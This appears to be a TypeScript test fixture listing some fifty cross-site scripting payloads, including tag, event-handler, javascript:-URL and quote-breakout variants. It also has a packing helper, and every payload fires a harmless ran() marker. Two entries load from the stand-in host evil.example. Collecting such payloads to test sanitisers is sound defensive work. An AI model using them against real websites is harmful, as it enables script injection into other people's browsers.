/** What attackers type into text fields; each would call ran() in a page that took it for more than text. */
const call = "ran()";
const tags = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script/x>${call}</script>`,
  `<script\n>${call}</script>`,
  `</script><script>${call}</script>`,
  `<!--</script><script>${call}</script>-->`,
  `<script src=data:,${call}></script>`,
  `<script type=module>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:,${call} /></svg>`,
  `<math><script>${call}</script></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<title><img src=x onerror=${call}></title>`,
  `<textarea><img src=x onerror=${call}></textarea>`,
  `</textarea><img src=x onerror=${call}>`,
  `</title><img src=x onerror=${call}>`,
  `</style><img src=x onerror=${call}>`,
];
const handlers = [
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<IMG SRC=x OnErRoR=${call}>`,
  `<img src=x:x onerror&#61;${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}//`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video src=x onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`,
  `<a onmouseover=${call}>x</a>`,
  `<p style=animation-name:turn onanimationstart=${call}>`,
  `<button popovertarget=x onclick=${call}>`,
];
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `javascript&colon;${call}`,
  `<a href=javascript:${call}>x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<iframe src=javascript:${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data=javascript:${call}>`,
  `<embed src=javascript:${call}>`,
  `<form action=javascript:${call}><button>x`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
];
const breakouts = [
  `" onfocus=${call} autofocus x="`,
  `' onfocus=${call} autofocus x='`,
  `"><img src=x onerror=${call}>`,
  `'><svg onload=${call}>`,
  `";${call};//`,
  `';${call};//`,
  `\\";${call};//`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `\u2028${call}`,
  `]]><script>${call}</script>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `%3Cscript%3E${call}%3C/script%3E`,
];

export const payloads = [...tags, ...handlers, ...addresses, ...breakouts];

/** As many to a text as fit into its length. */
export function packed(list: readonly string[], length: number): string[] {
  const packs: string[] = [];
  for (const one of list) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + one.length + 1 <= length)
      packs[packs.length - 1] = `${last} ${one}`;
    else packs.push(one);
  }
  return packs;
}
